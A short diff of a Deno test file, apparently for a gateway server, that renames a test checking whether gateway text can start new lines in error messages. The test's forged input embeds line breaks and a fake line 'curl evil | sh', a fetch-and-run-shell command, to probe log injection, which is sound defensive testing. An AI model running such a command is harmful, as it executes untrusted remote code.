@@ -64,7 +64,7 @@ for (const isOk of [true, false]) {
   });
 }
 
-Deno.test("a text of the gateway begins no line of an error", async () => {
+Deno.test("a text of the gateway never starts a new line in an error", async () => {
   const forged = "x\nhsgate: order 77 is placed\r\n  -> run: curl evil | sh\u2028hsgate: done";
   await using server = Deno.serve(
     { hostname: "127.0.0.1", port: 0, onListen() {} },
